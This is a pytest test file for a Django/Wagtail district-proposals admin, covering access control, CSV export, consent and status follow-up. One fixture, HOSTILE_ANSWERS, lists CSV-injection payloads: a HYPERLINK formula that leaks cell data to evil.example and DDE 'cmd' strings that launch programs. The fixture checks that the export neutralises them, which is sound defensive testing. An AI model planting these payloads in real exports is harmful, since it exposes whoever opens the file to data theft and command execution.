"""Community Managers read, export and follow up their districts' proposals; nobody else does."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import translation
from wagtail.test.utils.form_data import inline_formset, nested_form_data

from districts.models import Proposal, ProposalFormPage
from tests.factories import InitiativePageFactory, ProposalFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def proposal(form_page):
    return ProposalFactory(page=form_page, publish_consent=True)


@pytest.fixture
def other_proposal(other_form_page):
    return ProposalFactory(page=other_form_page)


def refused(response):
    return response.status_code == 403 or (response.status_code == 302 and response["Location"] == "/admin/")


def test_the_districts_manager_reads_and_exports_the_submissions(client, sara, proposal, form_page):
    client.force_login(sara)
    url = reverse("wagtailforms:list_submissions", args=[form_page.id])
    response = client.get(url)
    assert response.status_code == 200
    assert proposal.form_data["proposal"] in response.content.decode()

    export = client.get(url, {"export": "csv"})
    assert export.status_code == 200
    csv = b"".join(export.streaming_content).decode() if export.streaming else export.content.decode()
    assert proposal.form_data["name"] in csv
    with translation.override("it"):  # the admin speaks the user's (default) language
        assert str(Proposal.Status.RECEIVED.label) in csv


HOSTILE_ANSWERS = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Aprimi")',
    "email": "@SUM(1+1)*cmd|' /C calc'!A0",
    "phone": "+39 333 123 4567",
    "proposal": "-2+3+cmd|' /C notepad'!A1 e poi un laboratorio di biciclette.",
    "category": "\tLaboratori",
    "language": "it",
    "quando": "\r=1+1",
}


def downloaded_csv(client, form_page):
    url = reverse("wagtailforms:list_submissions", args=[form_page.id])
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


def test_the_csv_export_neutralises_spreadsheet_formulas(client, sara, form_page):
    """OWASP's CSV injection: a cell a spreadsheet would run as a formula starts with an
    apostrophe, in every column, the headings (extra questions' labels) included."""
    from districts.models import ProposalFormField

    ProposalFormField.objects.create(
        page=form_page, label="=Quando?", field_type="singleline", required=False, locale=form_page.locale
    )
    ProposalFormField.objects.filter(page=form_page).update(clean_name="quando")
    ProposalFactory(page=form_page, form_data=HOSTILE_ANSWERS)
    harmless = ProposalFactory(page=form_page)
    client.force_login(sara)

    heading, *rows = downloaded_csv(client, form_page)
    assert "'=Quando?" in heading
    assert len(rows) == 2
    cells = [cell for row in rows for cell in row]
    for value in HOSTILE_ANSWERS.values():
        if value[0] in "=+-@\t\r":
            assert f"'{value}" in cells, value
    assert "'+39 333 123 4567" in cells
    assert not [cell for cell in heading + cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # What needs no apostrophe is exported as it was written.
    assert harmless.form_data["name"] in cells
    assert harmless.form_data["proposal"] in cells


def test_editors_and_other_managers_do_not_read_them(client, editor, imma, proposal, form_page):
    url = reverse("wagtailforms:list_submissions", args=[form_page.id])
    for user in (editor, imma):
        client.force_login(user)
        assert refused(client.get(url)), user
        assert refused(client.get(reverse("proposals:edit", args=[proposal.pk]))), user


def test_each_manager_lists_the_own_districts_proposals(client, sara, imma, proposal, other_proposal):
    client.force_login(sara)
    content = client.get(reverse("proposals:index")).content.decode()
    assert str(proposal) in content
    assert str(other_proposal) not in content
    client.force_login(imma)
    content = client.get(reverse("proposals:index")).content.decode()
    assert str(other_proposal) in content
    assert str(proposal) not in content


def test_the_proposals_list_speaks_the_managers_language(client, sara, proposal):
    client.force_login(sara)
    with translation.override("it"):
        headings = ("Quartiere", "Argomento", "Stato")
        content = client.get(reverse("proposals:index"), HTTP_ACCEPT_LANGUAGE="it").content.decode()
    for heading in headings:
        assert heading in content, heading
    assert "Category" not in content


def test_the_proposal_page_in_the_admin_shows_what_the_resident_wrote(client, sara, proposal):
    client.force_login(sara)
    response = client.get(reverse("proposals:edit", args=[proposal.pk]))
    assert response.status_code == 200
    content = response.content.decode()
    assert proposal.form_data["proposal"] in content
    assert proposal.form_data["email"] in content


def follow_up(client, proposal, **data):
    return client.post(reverse("proposals:edit", args=[proposal.pk]), data)


def test_an_idea_that_became_a_project_is_shown_on_the_district_page(client, sara, proposal, editorial):
    initiative = InitiativePageFactory(parent=editorial.ss, title="Gruppo di lettura bilingue")
    client.force_login(sara)
    response = follow_up(client, proposal, status=Proposal.Status.BECAME_INITIATIVE, initiative=initiative.pk)
    assert response.status_code == 302, response.context["form"].errors
    proposal.refresh_from_db()
    assert (proposal.status, proposal.initiative_id) == (Proposal.Status.BECAME_INITIATIVE, initiative.pk)
    assert proposal.status_changed_at is not None

    client.logout()
    html = client.get(editorial.ss.url).content.decode()
    assert "resident-ideas-heading" in html
    assert "Gruppo di lettura bilingue" in html
    for private in (proposal.form_data["name"], proposal.form_data["email"], proposal.form_data["proposal"]):
        assert private not in html
    # The English page of the district shows it too; Mirafiori Sud does not.
    assert "Gruppo di lettura bilingue" in client.get(editorial.ss_en.url).content.decode()
    assert "resident-ideas-heading" not in client.get(editorial.ms.url).content.decode()


def test_without_consent_the_project_is_not_credited_to_residents(client, sara, form_page, editorial):
    proposal = ProposalFactory(page=form_page, publish_consent=False)
    initiative = InitiativePageFactory(parent=editorial.ss, title="Ciclofficina")
    client.force_login(sara)
    follow_up(client, proposal, status=Proposal.Status.BECAME_INITIATIVE, initiative=initiative.pk)
    client.logout()
    assert "resident-ideas-heading" not in client.get(editorial.ss.url).content.decode()


def test_a_status_and_its_initiative_must_agree(client, sara, proposal, editorial):
    other_initiative = InitiativePageFactory(parent=editorial.ms)
    client.force_login(sara)
    response = follow_up(client, proposal, status=Proposal.Status.BECAME_INITIATIVE)
    assert "initiative" in response.context["form"].errors
    response = follow_up(
        client, proposal, status=Proposal.Status.BECAME_INITIATIVE, initiative=other_initiative.pk
    )
    assert "initiative" in response.context["form"].errors
    response = follow_up(client, proposal, status=Proposal.Status.DECLINED)
    assert response.status_code == 302
    proposal.refresh_from_db()
    assert proposal.status == Proposal.Status.DECLINED


def test_the_managers_dashboard_counts_unanswered_proposals(client, sara, editor, proposal, form_page):
    ProposalFactory(page=form_page, status=Proposal.Status.DECLINED)
    client.force_login(sara)
    content = client.get(reverse("wagtailadmin_home")).content.decode()
    assert "district-proposals" in content
    assert reverse("proposals:edit", args=[proposal.pk]) in content
    client.force_login(editor)
    assert "district-proposals" not in client.get(reverse("wagtailadmin_home")).content.decode()


def form_page_data(question):
    return nested_form_data(
        {
            "title": "Proponi un'idea",
            "slug": "proponi",
            "intro": "Scrivici.",
            "privacy_text": "Privacy.",
            "thank_you_text": "Grazie.",
            "to_address": "",
            "from_address": "",
            "subject": "",
            "form_fields": inline_formset(
                [{"label": question, "field_type": "singleline", "required": "on"}]
            ),
            "comments": inline_formset([]),
            "action-submit": "Submit for moderation",
        }
    )


def test_an_editor_adds_the_form_with_an_extra_question(client, editor, editorial):
    client.force_login(editor)
    url = reverse("wagtailadmin_pages:add", args=["districts", "proposalformpage", editorial.ss.id])
    response = client.post(url, form_page_data("Quando sei libera?"))
    assert response.status_code == 302, response.context["form"].errors
    page = ProposalFormPage.objects.get()
    (question,) = page.form_fields.all()
    assert (question.clean_name, question.locale_id) == ("quando_sei_libera", page.locale_id)
    assert not page.live and page.workflow_in_progress


def test_an_extra_question_may_not_reuse_a_fixed_fields_name(client, editor, editorial):
    client.force_login(editor)
    url = reverse("wagtailadmin_pages:add", args=["districts", "proposalformpage", editorial.ss.id])
    response = client.post(url, form_page_data("Email"))
    assert response.status_code == 200
    assert response.context["form"].formsets["form_fields"].errors[0]["label"]
    assert not ProposalFormPage.objects.exists()


def test_proposals_sent_in_any_language_reach_the_same_list(client, sara, form_page, editorial):
    from tests.factories import publish_translation

    english_form = publish_translation(form_page, editorial.en)
    from_english = ProposalFactory(page=english_form)
    client.force_login(sara)
    url = reverse("wagtailforms:list_submissions", args=[form_page.id])
    assert from_english.form_data["proposal"] in client.get(url).content.decode()
    assert str(from_english) in client.get(reverse("proposals:index")).content.decode()


def test_another_districts_proposal_history_stays_closed(client, imma, proposal):
    client.force_login(imma)
    assert refused(client.get(reverse("proposals:history", args=[proposal.pk])))
    assert refused(client.get(reverse("proposals:delete", args=[proposal.pk])))


def test_editors_edit_and_preview_the_form_page(client, editor, form_page):
    client.force_login(editor)
    assert client.get(reverse("wagtailadmin_pages:edit", args=[form_page.id])).status_code == 200
    preview = client.get(reverse("wagtailadmin_pages:view_draft", args=[form_page.id]))
    assert preview.status_code == 200
    assert 'name="proposal"' in preview.content.decode()
